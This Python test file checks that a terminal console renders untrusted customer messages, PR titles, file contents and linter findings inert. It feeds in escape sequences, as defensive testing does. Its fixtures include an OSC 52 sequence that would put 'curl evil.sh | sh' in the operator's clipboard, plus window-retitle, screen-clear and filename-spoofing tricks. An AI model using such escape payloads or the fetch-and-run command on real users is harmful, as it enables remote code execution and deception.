"""Untrusted text reaches the operator's terminal inert: the pure :func:`console.inert.inert`,
then a customer's escape sequences shown by the console against the real backend."""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest
from rich.segment import Segment

from console.app import CadenciaConsole
from console.inert import inert, inert_text
from console.screens.interruption_detail import InterruptionDetailScreen
from tests.console.conftest import until_live, wait_for
from tests.console.world import Live, World

Factory = Callable[..., CadenciaConsole]
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.sh | sh\n").decode() + "\x07"
"""OSC 52: write the operator's clipboard."""
TITLE = "\x1b]0;title\x07"
"""OSC 0: retitle the operator's terminal window."""


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (CLIPBOARD, "␛]52;c;" + CLIPBOARD[7:-1] + "␇"),
        (TITLE, "␛]0;title␇"),
        ("\x1b[2J\x1b[H", "␛[2J␛[H"),
        ("a\x9b31mb", "a\\x9b31mb"),  # C1 CSI: one byte, the same power as ESC [
        ("invoice\u202egpj.exe", "invoice\\u202egpj.exe"),
        ("bell\x07 nul\x00 del\x7f", "bell␇ nul␀ del␡"),
        ("linha 1\r\nlinha 2\tfim", "linha 1\nlinha 2\tfim"),
        ("carriage\rreturn", "carriage␍return"),
        ("Olá, pedido nº 4821 — R$ 129,90 👍", "Olá, pedido nº 4821 — R$ 129,90 👍"),
    ],
)
def test_inert_shows_every_control_character(raw: str, shown: str) -> None:
    assert inert(raw) == shown


def test_inert_single_line_keeps_one_row() -> None:
    assert inert("a\nb\tc", multiline=False) == "a␊b c"


def test_inert_text_is_never_markup() -> None:
    text = inert_text("[bold red]urgent[/] \x1b[5m", "dim")
    assert text.plain == "[bold red]urgent[/] ␛[5m"
    assert not text.spans
    assert text.style == "dim"


def rendered(app: CadenciaConsole) -> str:
    """Every character the console writes for the current screen, but its own escape
    sequences (styles, cursor moves): what untrusted text can make the terminal receive."""
    update = app.screen._compositor.render_update(full=True)
    return "".join(
        s.text for s in Segment.filter_control(app.console.render(update)) if not s.control
    )


async def test_a_customers_escape_sequences_are_shown_not_sent_to_the_terminal(
    make_app: Factory, live: Live, world: World
) -> None:
    takeover = world.open_takeover
    live.http.post(
        f"/api/interruptions/{takeover}/claim", json={"operator": "alice"}
    ).raise_for_status()  # a human holds it: no model turn answers
    text = f"{TITLE}oi {CLIPBOARD}fim [bold red]URGENTE[/]"
    said = live.http.post("/api/conversations/c-17/messages", json={"text": text})
    assert said.status_code == 200, said.text
    payload = CLIPBOARD[7:-1]  # the base64: shown whether or not its escapes are
    start = payload[:12]  # the feed's pane is narrow: its line is cut further on
    app = make_app()
    async with app.run_test(size=(160, 40)) as pilot:
        await until_live(pilot)
        # The Team screen's feed: the customer's line, as the activity feed renders it.
        await wait_for(pilot, lambda: start in rendered(app))
        feed = rendered(app)
        app.push_screen(InterruptionDetailScreen(app, takeover))
        await wait_for(pilot, lambda: "URGENTE" in rendered(app))
        takeover_screen = rendered(app)
    for where, shown in (("feed", feed), ("takeover", takeover_screen)):
        assert "\x1b" not in shown, where
        assert "\x07" not in shown, where
        assert f"␛]0;title␇oi ␛]52;c;{start}" in shown, where
    assert f"␛]52;c;{payload}␇fim" in takeover_screen
    assert "[bold red]URGENTE[/]" in takeover_screen  # markup shown as typed, not obeyed


async def test_a_prs_file_content_and_findings_are_shown_inert(
    make_app: Factory, live: Live, world: World
) -> None:
    from backend.prs.actions import PrPipeline
    from backend.prs.proposals import Proposal
    from console.screens.pr_detail import PrDetailScreen
    from tests.console.world import MODULES

    backend = live.backend
    project = backend.pipeline.get(world.pr_ready).project_id
    backend.store.set_module_map(project, MODULES)
    manual = PrPipeline(backend.store, backend.settings)
    task = backend.dev_tasks.create_task(project, "api", "Escape the README")
    opened = manual.propose(
        Proposal(
            kind="dev",
            project_id=project,
            title=f"README {TITLE}",
            files={"README.md": f"# loja\n{CLIPBOARD}\nrun it\n"},
            author="dev-api",
            task_id=task.id,
        )
    )
    assert opened.artifact is not None
    pr_id = str(opened.artifact.id)
    finding = {
        "tool": "hadolint",
        "rule": "DL3007",
        "file": "README.md",
        "line": 2,
        "severity": "error",
        "message": "quoted \x1b[2J[bold]line[/bold]",
    }
    manual.record_verdict(pr_id, "qa", "fail", [finding], "planted failure")
    app = make_app()
    async with app.run_test(size=(160, 40)) as pilot:
        await until_live(pilot)
        app.push_screen(PrDetailScreen(app, pr_id))
        await wait_for(pilot, lambda: "README ␛]0;title␇" in rendered(app))
        shown = {"summary": rendered(app)}
        for tab, marker in (("tab-findings", "quoted ␛[2J"), ("tab-files", "␛]52;c;")):
            app.screen.query_one("#tabs").active = tab  # type: ignore[attr-defined]
            await wait_for(pilot, lambda m=marker: m in rendered(app))
            shown[tab] = rendered(app)
    for where, text in shown.items():
        assert "\x1b" not in text, where
        assert "\x07" not in text, where
    assert "quoted ␛[2J[bold]line[/bold]" in shown["tab-findings"]
